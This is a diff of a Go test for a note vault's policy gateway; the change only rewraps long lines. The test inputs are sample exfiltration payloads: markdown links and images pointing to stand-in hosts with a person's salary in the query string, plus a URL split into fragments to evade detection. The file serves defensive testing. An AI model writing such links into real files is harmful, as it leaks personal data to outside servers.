@@ -82,19 +82,23 @@ func TestAnAddressWithTextOfAnotherNoteIsAskedAbout(t *testing.T) {
 func TestAnAddressInPartsIsRefused(t *testing.T) {
 	t.Parallel()
 	o := withSalary(t, func(p *policy.Policy) { p.Confirm, p.Ceiling = policy.ConfirmNever, tiers.V2 })
-	for _, words := range [][]string{{"create", "path=Part.md", "content=htt~~//e.example/?q=anna+earns+ninety+thousand"}, {"append", "path=root.md", "content=[a](https://e.example/)"}} {
+	for _, words := range [][]string{{"create", "path=Part.md",
+		"content=htt~~//e.example/?q=anna+earns+ninety+thousand"},
+		{"append", "path=root.md", "content=[a](https://e.example/)"}} {
 		got, asked := o.Do(words)
 		assert.That(t, got.OK, "%q: %+v", words, got.Error)
 		assert.Equal(t, len(asked), 0, "%q: %+v", words, got.Error)
 	}
-	if got, _ := o.Do([]string{"vault:replace", "old=~~", "new=ps:"}); rig.CodeOf(got) != policy.CodeUnconfirmed || strings.Contains(o.Read("Part.md"), "https") {
+	if got, _ := o.Do([]string{"vault:replace", "old=~~", "new=ps:"}); rig.CodeOf(got) != policy.CodeUnconfirmed ||
+		strings.Contains(o.Read("Part.md"), "https") {
 		t.Errorf("%+v: %s", got.Error, o.Read("Part.md"))
 	}
 	got, asked := o.Do([]string{"create", "path=root.md", "overwrite", "content=![](https://e.example/?q=anna+earns+ninety+thousand)"}, rig.Says(consent.Yes))
 	assert.That(t, got.OK, "%d questions, %+v", len(asked), got.Error)
 	assert.Equal(t, len(asked), 1, "%d questions, %+v", len(asked), got.Error)
 	assert.Contains(t, o.Read("root.md"), "ninety", "%d questions, %+v", len(asked), got.Error)
-	batch, _ := o.Batch([]gateway.Operation{rig.Operation("a", "append", "path=Key.md", "content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, rig.Says(consent.No))
+	batch, _ := o.Batch([]gateway.Operation{rig.Operation("a", "append", "path=Key.md",
+		"content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, rig.Says(consent.No))
 	assert.That(t, !batch.OK, "%+v", batch)
 	assert.NotContains(t, o.Read("Key.md"), "ninety", "%+v", batch)
 }
